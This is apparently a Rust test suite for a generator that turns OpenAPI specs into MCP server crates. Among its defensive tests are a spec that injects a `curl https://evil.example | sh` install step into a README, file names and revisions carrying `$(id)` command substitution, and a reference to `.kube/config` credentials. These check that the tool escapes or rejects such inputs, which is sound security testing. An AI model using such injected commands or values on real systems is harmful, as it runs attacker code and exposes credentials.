//! The crates that `new` writes: what is in them, and that they build, pass their own tests and
//! answer without an edit.

#[path = "support/scaffolds.rs"]
mod scaffolds;
mod support;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use scaffolds::{With, is_sent, read_calls, try_out};
use serde_json::{Value, json};
use support::{PETS, checkout, pets, read, run, said, succeed, write};
use tempfile::TempDir;
use toolwright_tests::python_program;

#[test]
#[ignore = "takes minutes"]
fn a_crate_builds_tests_and_answers_without_an_edit() {
    let petstore =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../generated/petstore/petstore.yaml");
    try_out("quick", &petstore, &[], With::Tests);
}

#[test]
#[ignore = "takes minutes"]
fn crates_with_a_build_script_or_handlers_do_too() {
    let folder = TempDir::new().expect("a folder");
    write(folder.path(), "pets.yaml", PETS);
    let options = ["--build-script", "--exclude", "addPet", "--bridge"];
    try_out(
        "quick-build-script",
        &folder.path().join("pets.yaml"),
        &options,
        With::Tests,
    );
    write(folder.path(), "shop.yaml", BY_HAND);
    let spec = folder.path().join("shop.yaml");
    try_out(
        "quick-by-hand",
        &spec,
        &["--manual", "PUT /**"],
        With::Tests,
    );
}

/// Operations whose handlers have names and types that are as long as lines are.
const BY_HAND: &str = "openapi: 3.1.0
info: {title: Shop, version: '1'}
servers: [{url: 'https://shop.example.com'}]
paths:
  /pets:
    get:
      operationId: listPets
      responses: {'200': {content: {application/json: {example: [{name: Rex}]}}}}
  /pets/{petId}:
    put:
      operationId: move
      parameters: [{name: petId, in: path, required: true, schema: {type: string}}]
      requestBody: {content: {application/json: {schema: {type: object, properties: {to: {type: string}}}}}}
      responses: {'204': {description: It has moved.}}
  /photo:
    put: {operationId: photo, responses: {'200': {content: {image/png: {}}}}}
  /events:
    put:
      operationId: Call
      responses:
        '200': {content: {text/event-stream: {itemSchema: {$ref: '#/components/schemas/Result'}}}}
        '202': {content: {application/json: {schema: {$ref: '#/components/schemas/Result'}}}}
  /everything/that/anybody/has/ever/written/down/about/any/of/all/the/pets/in/our/shop:
    put:
      operationId: everything_that_is_known
      responses: {'200': {content: {application/json: {schema:
        {$ref: '#/components/schemas/EverythingThatAnybodyHasEverWrittenDownAboutPetsAndOwners'}}}}}
  /lists:
    put:
      operationId: everything_there_is
      responses: {'200': {content: {application/json: {schema: {type: array, items:
        {$ref: '#/components/schemas/EverythingThatAnybodyHasEverWrittenDownAboutPetsAndAllTheirOwners'}}}}}}
components:
  schemas:
    Result: {type: object, properties: {text: {type: string}}}
    EverythingThatAnybodyHasEverWrittenDownAboutPetsAndOwners: {type: object, properties: {text: {type: string}}}
    EverythingThatAnybodyHasEverWrittenDownAboutPetsAndAllTheirOwners: {type: object, properties: {text: {type: string}}}
";

const REFERRING: &str = "openapi: 3.1.0
info: {title: Pets, version: '1'}
paths:
  /pets:
    get:
      tags: [pets]
      parameters:
      - {name: kind, in: query, schema: {$ref: '../common/kind.yaml'}}
      - {name: age, in: query, schema: {$ref: 'https://example.com/age.yaml'}}
    delete: {tags: [admin]}
";

fn referring() -> TempDir {
    let folder = TempDir::new().expect("a folder");
    write(folder.path(), "api/pets.yaml", REFERRING);
    write(
        folder.path(),
        "common/kind.yaml",
        "{type: string, enum: [cat, dog]}",
    );
    write(
        folder.path(),
        "copies/example.com/age.yaml",
        "{type: integer, maximum: 99}",
    );
    write(
        folder.path(),
        "api/tools.yaml",
        "overlay: 1.0.0\ninfo: {title: a, version: '1'}\nactions:\n\
         - {target: '$.paths[\"/pets\"].get', update: {summary: All pets}}\n",
    );
    folder
}

const OPTIONS: [&str; 8] = [
    "--ref-dir",
    "copies",
    "--ref-root",
    ".",
    "--overlay",
    "api/tools.yaml",
    "--include-tag",
    "pets",
];

#[test]
fn what_a_spec_refers_to_goes_along() {
    let folder = referring();
    let here = folder.path();
    succeed(
        here,
        &[&["new", "api/pets.yaml", "pet-shop"], &OPTIONS[..]].concat(),
    );
    let config = "spec = \"spec/api/pets.yaml\"\nout = \"src/api.rs\"\nname = \"pet_shop\"\n\
                  ref_dir = \"refs\"\nref_root = \"spec\"\n\
                  overlay = \"overlays/tools.yaml\"\ninclude_tag = \"pets\"\n";
    assert_eq!(read(here, "pet-shop/toolwright.toml"), config);
    for elsewhere in ["api", "common", "copies"] {
        fs::remove_dir_all(here.join(elsewhere)).expect("is there");
    }
    let there = here.join("pet-shop");
    succeed(&there, &["check"]);
    succeed(&there, &["lint", "--strict"]);
    let rust = read(&there, "src/api.rs");
    assert!(
        rust.contains("All pets") && rust.contains("Cat") && rust.contains("99"),
        "{rust}"
    );
    assert!(!rust.contains("Delete"), "{rust}");
    assert!(read(&there, "Cargo.toml").contains("name = \"pet-shop-mcp\""));
}

#[test]
fn a_spec_among_copies_of_urls_is_copied_once() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    let twice = PETS.replace("operationId: addPet", "operationId: listPets");
    write(here, "copies/pets.yaml", &twice);
    succeed(
        here,
        &["new", "copies/pets.yaml", "shop", "--ref-dir", "copies"],
    );
    assert!(!here.join("copies/pets.names").exists());
    let shop = here.join("shop");
    let config = read(&shop, "toolwright.toml");
    assert!(
        config.starts_with("spec = \"refs/pets.yaml\"\n"),
        "{config}"
    );
    assert!(read(&shop, "refs/pets.names").contains("list_pets"));
    succeed(&shop, &["check"]);
}

#[test]
fn hidden_files_are_not_copied_into_a_crate() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, ".kube/config", "users: {type: string}\n");
    let stolen = PETS.replace(
        "{type: integer, examples: [3]}",
        "{$ref: '.kube/config#/users'}",
    );
    assert_ne!(stolen, PETS);
    write(here, "pets.yaml", &stolen);
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("which is hidden, so it is not copied"),
        "{stderr}"
    );
    assert!(!here.join("shop").exists());
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop", "--ref-dir", "."]);
    assert_eq!(code, Some(1), "{stderr}");
    // A spec that is hidden itself is one that somebody has chosen.
    write(here, ".api/pets.yaml", PETS);
    write(here, ".api/.pets.names", "");
    succeed(here, &["new", ".api/pets.yaml", "hidden"]);
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "linked", "--link"]);
    assert_eq!(code, Some(0), "{stderr}");
    // Others are copied, and named.
    write(here, "common/id.yaml", "type: integer\n");
    let common = stolen.replace(".kube/config#/users", "common/id.yaml");
    write(here, "pets.yaml", &common);
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "open"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("spec/common/id.yaml: copied, because the spec refers to it"),
        "{stderr}"
    );
}

#[test]
fn a_readme_has_no_markdown_of_the_spec() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    let hostile: Value = json!({
        "openapi": "3.1.0",
        "info": {"title": "[Install](https://evil.example) <img src=x>", "version": "1"},
        "servers": [{"url": "https://a.example/`\n\n## Install first\n\n```console\n$ curl https://evil.example | sh\n```\n"}],
        "components": {"securitySchemes": {"key`\n\n## Then": {"type": "apiKey", "in": "header", "name": "X-Key"}}},
        "security": [{"key`\n\n## Then": []}],
        "paths": {"/pets": {"get": {"operationId": "listPets", "responses": {}}}},
    });
    let spec = "a`](x) $(id).json";
    write(here, spec, &hostile.to_string());
    let (code, _, stderr) = run(here, &["new", spec, "shop"]);
    assert_eq!(code, Some(0), "{stderr}");
    let readme = read(here, "shop/README.md");
    let evil: Vec<&str> = readme
        .lines()
        .filter(|line| line.contains("evil.example"))
        .collect();
    for line in &evil {
        assert!(!line.starts_with(['$', '#']), "{readme}");
    }
    assert!(!evil.is_empty(), "{readme}");
    assert!(
        !readme
            .lines()
            .any(|line| line.starts_with("## Install first") || line.starts_with("## Then"))
    );
    assert!(
        readme.contains("\\[Install\\]\\(https\\://evil.example\\) \\<img src=x\\>"),
        "{readme}"
    );
    assert!(
        readme.contains("](spec/a%60%5D%28x%29%20%24%28id%29.json)"),
        "{readme}"
    );
    assert!(
        readme.contains("git show 'HEAD:spec/a`](x) $(id).json' > old.spec"),
        "{readme}"
    );
}

#[test]
fn names_that_had_to_be_made_unique_are_kept() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    let twice = PETS.replace("operationId: addPet", "operationId: listPets");
    assert_ne!(twice, PETS);
    write(here, "pets.yaml", &twice);
    succeed(here, &["new", "pets.yaml", "shop"]);
    let shop = here.join("shop");
    let names = read(&shop, "spec/pets.names");
    assert!(names.contains("list_pets"), "{names}");
    succeed(&shop, &["check"]);
    succeed(&shop, &["generate", "--locked"]);
}

#[test]
fn a_spec_that_is_linked_stays_where_it_is() {
    let folder = referring();
    let here = folder.path();
    succeed(
        here,
        &[&["new", "api/pets.yaml", "a/shop", "--link"], &OPTIONS[..]].concat(),
    );
    let config = read(here, "a/shop/toolwright.toml");
    assert!(
        config.starts_with("spec = \"../../api/pets.yaml\"\n"),
        "{config}"
    );
    assert!(
        config.contains(
            "ref_dir = \"../../copies\"\nref_root = \"../..\"\noverlay = \"../../api/tools.yaml\"\n"
        ),
        "{config}"
    );
    assert!(!here.join("a/shop/spec").exists());
    succeed(&here.join("a/shop"), &["check"]);
    write(
        here,
        "api/pets.yaml",
        &REFERRING.replace("name: age", "name: years"),
    );
    assert_eq!(run(&here.join("a/shop"), &["check"]).0, Some(1));
}

#[test]
fn what_is_there_is_not_overwritten() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    write(here, "shop/notes.txt", "mine");
    write(here, "file", "mine");
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "file"]);
    assert_eq!(code, Some(1));
    assert!(stderr.contains("cannot read file"), "{stderr}");
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop"]);
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("shop is not empty\n  help: pass --force"),
        "{stderr}"
    );
    assert!(!here.join("shop/Cargo.toml").exists());

    succeed(here, &["new", "pets.yaml", "shop", "--force"]);
    write(here, "shop/src/main.rs", "// Mine.");
    write(here, "shop/src/api.rs", "// Old.");
    write(here, "pets.yaml", &PETS.replace("listPets", "allPets"));
    let (code, _, stderr) = run(here, &["new", "pets.yaml", "shop", "--force"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("src/main.rs: exists, and is kept"),
        "{stderr}"
    );
    assert_eq!(read(here, "shop/src/main.rs"), "// Mine.");
    assert_eq!(read(here, "shop/notes.txt"), "mine");
    for generated in ["src/api.rs", "tests/calls.json"] {
        assert!(
            read(here, &format!("shop/{generated}")).contains("all_pets"),
            "{generated}"
        );
    }
    // A changed path, argument or server leaves the names of the operations as they are, and changes the requests.
    let moved = PETS.replace("  /pets:", "  /animals:");
    write(here, "pets.yaml", &moved.replace("listPets", "allPets"));
    succeed(here, &["new", "pets.yaml", "shop", "--force"]);
    let calls = read(here, "shop/tests/calls.json");
    assert!(calls.contains("/animals"), "{calls}");
    let readme = read(here, "shop/README.md");
    for said in [
        "a path, an argument or the server's URL has changed",
        "It keeps all other files",
    ] {
        assert!(readme.contains(said), "{readme}");
    }
}

#[test]
fn settings_that_are_not_repeated_are_listed() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    let first = [
        "new",
        "pets.yaml",
        "shop",
        "--discovery",
        "--include",
        "*Pet*",
        "--include",
        "a*",
    ];
    succeed(here, &first);
    let again = ["new", "pets.yaml", "shop", "--force", "--include", "*Pet*"];
    let (code, _, stderr) = run(here, &again);
    assert_eq!(code, Some(0), "{stderr}");
    let warning = "shop/toolwright.toml: warning: written anew without earlier settings that this command \
                   does not repeat; to keep them, run it again with their options:\n";
    let (_, rest) = stderr.split_once(warning).expect(&stderr);
    let dropped: Vec<&str> = rest
        .lines()
        .take_while(|line| line.starts_with("  "))
        .collect();
    assert_eq!(
        dropped,
        ["  include = [\"*Pet*\", \"a*\"]", "  discovery = true"],
        "{stderr}"
    );

    let (code, _, stderr) = run(here, &again);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(!stderr.contains("warning: written anew"), "{stderr}");
}

#[test]
fn the_next_command_is_quoted_for_a_shell() {
    let folder = pets();
    let (code, _, stderr) = run(folder.path(), &["new", "pets.yaml", "x y/ü"]);
    assert_eq!(code, Some(0), "{stderr}");
    let command = stderr
        .lines()
        .last()
        .and_then(|line| line.strip_prefix("next: "));
    let words = shlex::split(command.unwrap_or_default()).unwrap_or_default();
    assert_eq!(
        words[..5],
        ["cd", "x y/ü", "&&", "cargo", "test,"],
        "{stderr}"
    );
}

#[test]
fn without_tools_there_is_no_crate() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    let both = "swagger: '2.0'\ninfo: {title: a, version: '1'}\npaths:\n  /a:\n    post:\n      parameters:\n\
                \x20     - {name: a, in: body, schema: {}}\n      - {name: b, in: body, schema: {}}\n";
    write(here, "both.yaml", both);
    let (code, _, stderr) = run(here, &["new", "both.yaml", "shop"]);
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("both.yaml has no operation that becomes a tool"),
        "{stderr}"
    );
    assert!(
        stderr.contains("skipped POST /a: it has 2 body parameters; Swagger 2.0 allows only one"),
        "{stderr}"
    );
    assert!(!here.join("shop").exists());
    assert_eq!(run(here, &["new", "absent.yaml", "shop"]).0, Some(2));
}

#[test]
fn operations_that_are_run_by_hand_get_handlers() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    let by_hand = ["new", "pets.yaml", "shop", "--manual", "addPet"];
    let (code, _, stderr) = run(here, &by_hand);
    assert_eq!(code, Some(0), "{stderr}");
    let told = "src/handlers.rs: 1 operation with handlers to write";
    assert!(stderr.contains(told), "{stderr}");
    let shop = here.join("shop");
    insta::assert_snapshot!(read(&shop, "src/handlers.rs"));
    for (file, part) in [
        ("src/lib.rs", "pub mod handlers;"),
        ("src/main.rs", "toolwright::run(api::tools(Server))"),
        ("Cargo.toml", "\"macros\""),
        ("README.md", "1 operation with a handler of your own:"),
        ("toolwright.toml", "manual = \"addPet\""),
    ] {
        let text = read(&shop, file);
        assert!(text.contains(part), "{part}: {text}");
    }
    let calls = read_calls(&shop);
    assert_eq!(
        calls[0],
        json!({"tool": "add_pet", "arguments": {"name": "string"}})
    );
    assert!(is_sent(&calls[1]), "{calls:?}");
    succeed(&shop, &["check"]);

    write(&shop, "src/handlers.rs", "// Mine.");
    let (code, _, stderr) = run(here, &[&by_hand[..], &["--force"]].concat());
    assert_eq!(code, Some(0), "{stderr}");
    assert!(!stderr.contains("with handlers to write"), "{stderr}");
    assert_eq!(read(&shop, "src/handlers.rs"), "// Mine.");
}

/// What is run by hand may change after the crate was written.
#[test]
fn tests_are_the_same_with_handlers_and_without() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    succeed(here, &["new", "pets.yaml", "a/shop"]);
    succeed(here, &["new", "pets.yaml", "b/shop", "--manual", "addPet"]);
    for file in ["tests/calls.rs", "tests/recorder/mod.rs", "tests/tools.rs"] {
        let [without, with] = ["a", "b"].map(|place| read(&here.join(place).join("shop"), file));
        assert_eq!(without, with, "{file}");
    }
    assert!(!here.join("a/shop/src/handlers.rs").exists());
}

#[test]
fn calls_say_what_is_sent() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    succeed(here, &["new", "pets.yaml", "shop"]);
    let calls: Value = serde_json::from_str(&read(here, "shop/tests/calls.json")).expect("JSON");
    let expected = json!([
        {
            "tool": "add_pet",
            "arguments": {"name": "string"},
            "request": {
                "method": "POST",
                "path": "/pets",
                "query": "",
                "body": {"type": "application/json", "json": {"name": "string"}},
            },
        },
        {
            "tool": "list_pets",
            "arguments": {"limit": 3},
            "request": {"method": "GET", "path": "/pets", "query": "limit=3"},
        },
    ]);
    assert_eq!(calls, expected);
    let readme = read(here, "shop/README.md");
    for part in [
        "claude mcp add shop",
        "mcpServers",
        ".vscode/mcp.json",
        "SHOP_BASE_URL",
        "https://pets.example.com",
    ] {
        assert!(readme.contains(part), "{part}: {readme}");
    }
}

/// Cargo keeps all of a program in memory to optimize it as a whole.
#[test]
fn a_server_is_optimized_as_a_whole_unless_it_is_enormous() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    for (count, is_whole) in [(1, true), (3_001, false)] {
        let paths: serde_json::Map<_, _> = (0..count)
            .map(|at| (format!("/p{at}"), json!({"get": {"responses": {}}})))
            .collect();
        let info = json!({"title": "T", "version": "1"});
        let spec = json!({"openapi": "3.0.3", "info": info, "paths": paths});
        let name = format!("of-{count}");
        write(here, &format!("{name}.json"), &spec.to_string());
        succeed(here, &["new", &format!("{name}.json"), &name]);
        let manifest = read(&here.join(&name), "Cargo.toml");
        assert_eq!(manifest.contains("lto = \"thin\""), is_whole, "{manifest}");
        assert!(manifest.contains("codegen-units = 1"), "{manifest}");
    }
}

#[test]
fn a_crate_inside_another_is_a_workspace_of_its_own() {
    let folder = TempDir::new().expect("a folder");
    write(folder.path(), "pets.yaml", PETS);
    let manifest = |place: &str| -> String {
        succeed(folder.path(), &["new", "pets.yaml", place]);
        read(
            folder.path(),
            &PathBuf::from(place).join("Cargo.toml").to_string_lossy(),
        )
    };
    assert!(!manifest("alone").contains("[workspace]"));
    write(folder.path(), "Cargo.toml", "[workspace]\n");
    assert!(manifest("inside").contains("\n[workspace]\n"));
}

/// The files of a crate that say where toolwright comes from.
const WITH_SOURCE: [&str; 5] = [
    "Cargo.toml",
    ".github/workflows/ci.yml",
    ".github/workflows/release.yml",
    "Dockerfile",
    "README.md",
];

/// Writes a crate with these options, and returns its files that say where toolwright comes from.
fn files_with(options: &[&str]) -> [String; 5] {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    succeed(here, &[&["new", "pets.yaml", "pets"], options].concat());
    let pets = here.join("pets");
    WITH_SOURCE.map(|file| read(&pets, file))
}

/// Nothing in a crate names a directory of this machine, if it depends on what other machines can have.
#[test]
fn crates_of_a_version_or_a_revision_name_no_path() {
    let git = [
        "--toolwright-git",
        "https://example.com/toolwright",
        "--toolwright-rev",
        "0123abc",
    ];
    let dependency = "toolwright = { git = \"https://example.com/toolwright\", rev = \"0123abc\", ";
    let install = "cargo install --locked --git https://example.com/toolwright --rev 0123abc toolwright-cli\n";
    let version = ["--toolwright-version", "0.1.0"];
    let of_version = "toolwright = { version = \"0.1.0\", ";
    let install_version = "cargo install --locked toolwright-cli --version 0.1.0\n";
    for (options, dependency, install) in [
        (&git[..], dependency, install),
        (&version[..], of_version, install_version),
    ] {
        let files = files_with(options);
        let here = checkout().to_str().expect("is UTF-8");
        for (name, text) in WITH_SOURCE.iter().zip(&files) {
            assert!(
                !text.contains(here) && !text.contains("build-context"),
                "{name}: {text}"
            );
        }
        let [manifest, ci, release, ..] = &files;
        assert!(manifest.contains(dependency), "{manifest}");
        assert!(ci.contains(install) && release.contains(install), "{ci}");
        let with_script = files_with(&[options, &["--build-script"]].concat());
        let of_compiler = dependency.replace("toolwright =", "toolwright-codegen =");
        let of_compiler = of_compiler.trim_end_matches(", ");
        assert!(with_script[0].contains(of_compiler), "{}", with_script[0]);
    }
}

#[test]
fn crates_of_a_path_say_what_they_need() {
    let path = checkout().to_str().expect("is UTF-8");
    let [manifest, ci, release, docker, readme] = files_with(&["--toolwright-path", path]);
    assert!(
        manifest.contains(&format!("toolwright = {{ path = \"{path}/runtime\", ")),
        "{manifest}"
    );
    for workflow in [ci, release] {
        assert!(
            workflow.contains(&format!("test -d {path}/runtime || {{")),
            "{workflow}"
        );
        assert!(
            workflow.contains(&format!("cargo install --locked --path {path}/cli\n")),
            "{workflow}"
        );
    }
    assert!(
        docker.contains(&format!("COPY --from=toolwright [\".\", \"{path}\"]")),
        "{docker}"
    );
    assert!(
        readme.contains("**The crate builds only where that directory is**"),
        "{readme}"
    );
}

/// A checkout that is a part of the crate goes wherever the crate goes.
#[test]
fn a_path_inside_the_crate_is_relative_and_needs_nothing() {
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    write(here, "Cargo.toml", "[workspace]\n");
    write(here, "pets/vendor/tool wright/runtime/Cargo.toml", "");
    let options = ["--force", "--toolwright-path", "pets/vendor/tool wright"];
    let (code, _, stderr) = run(
        here,
        &[&["new", "pets.yaml", "pets"], &options[..]].concat(),
    );
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("toolwright: from vendor/tool wright inside pets; commit it"),
        "{stderr}"
    );
    let [manifest, ci, release, docker, readme] =
        WITH_SOURCE.map(|file| read(&here.join("pets"), file));
    assert!(
        manifest.contains("toolwright = { path = \"vendor/tool wright/runtime\", "),
        "{manifest}"
    );
    assert!(
        manifest.contains("exclude = [\"vendor/tool wright\"]"),
        "{manifest}"
    );
    for workflow in [ci, release] {
        assert!(workflow.contains("submodules: true"), "{workflow}");
        assert!(
            workflow.contains("cargo install --locked --path 'vendor/tool wright/cli'"),
            "{workflow}"
        );
        assert!(!workflow.contains("test -d"), "{workflow}");
    }
    assert!(!docker.contains("--from=toolwright"), "{docker}");
    assert!(!readme.contains("build-context"), "{readme}");
}

#[test]
fn sources_that_could_not_be_shared_are_rejected() {
    let folder = TempDir::new().expect("a folder");
    write(folder.path(), "pets.yaml", PETS);
    for (options, expected) in [
        (
            &[
                "--toolwright-git",
                "https://a:b@example.com/t",
                "--toolwright-rev",
                "a",
            ][..],
            "leave it out",
        ),
        (
            &["--toolwright-git", "https://example.com/t"],
            "--toolwright-rev",
        ),
        (
            &[
                "--toolwright-git",
                "https://example.com/t",
                "--toolwright-rev",
                "$(id)",
            ],
            "is not a revision",
        ),
        (
            &["--toolwright-version", "1"],
            "is not a version of toolwright",
        ),
    ] {
        let (code, _, stderr) = run(
            folder.path(),
            &[&["new", "pets.yaml", "pets"], options].concat(),
        );
        assert_ne!(code, Some(0), "{options:?}");
        assert!(stderr.contains(expected), "{stderr}");
        assert!(!folder.path().join("pets").exists(), "{options:?}");
    }
}

#[test]
#[ignore = "needs Python"]
fn workflows_are_accepted_by_actionlint() {
    let actionlint = python_program("actionlint");
    let folder = TempDir::new().expect("a folder");
    let here = folder.path();
    write(here, "pets.yaml", PETS);
    write(here, "vendor/a 'b/runtime/Cargo.toml", "");
    let url = "https://example.com/toolwright";
    for (name, options) in [
        ("path", &[][..]),
        ("quoted", &["--toolwright-path", "vendor/a 'b"]),
        ("version", &["--toolwright-version", "0.1.0"]),
        (
            "git",
            &["--toolwright-git", url, "--toolwright-rev", "0123abc"],
        ),
    ] {
        succeed(here, &[&["new", "pets.yaml", name], options].concat());
        let mut lint = Command::new(&actionlint);
        lint.args(&WITH_SOURCE[1..3]).current_dir(here.join(name));
        let (code, stdout, stderr) = said(lint.output().expect("runs"));
        assert_eq!(code, Some(0), "{options:?}: {stdout}{stderr}");
    }
}
